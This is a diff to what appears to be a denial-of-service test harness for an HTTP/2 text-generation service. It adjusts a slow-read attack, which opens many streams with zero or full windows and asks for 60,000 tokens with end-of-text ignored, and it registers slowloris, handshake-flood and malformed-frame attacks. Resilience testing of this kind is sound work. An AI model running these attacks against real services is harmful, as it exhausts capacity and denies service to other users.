@@ -250,8 +250,8 @@ def hold(target, links):
             target.counts["closed"] = target.counts.get("closed", 0) + 1
 
 
-def slow_read(target):
-    """Streams of text that is never taken: as many as there may be, with no window, or with a full socket."""
+def slow_read(target, streams_each=8):
+    """Streams of text that is never taken, on eight connections: with no window, or with a full socket."""
     session = os.environ["LETHE_ATTACK_SESSION"].encode()
     # session_id, prompt.text, output {max_tokens: 60,000, ignore_end_of_text}, remember = false
     message = (b"\x0a" + bytes([len(session)]) + session + b"\x12\x04\x0a\x02hi" + b"\x2a\x06\x08\xe0\xd4\x03\x20\x01" +
@@ -263,10 +263,15 @@ def slow_read(target):
         link = target.connect(setting(INITIAL_WINDOW_SIZE, 0 if n % 2 else 1 << 20))
         if link is None:
             continue
-        for s in streams(0, 8):
+        for s in streams(0, streams_each):
             target.send(link, frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, call), 2, read=False)
         links.append(link)
     hold(target, links)
+
+
+def few_slow_reads(target):
+    """No more streams than the tenant may have at once, so that none takes the place of one that is ended."""
+    slow_read(target, streams_each=2)
 
 
 def slowloris(target):
@@ -340,9 +345,12 @@ ATTACKS = {f.__name__: f for f in (
     handshake_flood, slow_read, slowloris, oversize, malformed)}
 
 
+OTHERS = {f.__name__: f for f in (burn, few_slow_reads)}
+
+
 def main(name, port, certificates, seconds):
     target = Target(name, int(port), certificates, float(seconds))
-    {**ATTACKS, "burn": burn}[name](target)
+    {**ATTACKS, **OTHERS}[name](target)
     print(json.dumps(target.counts))
 
 
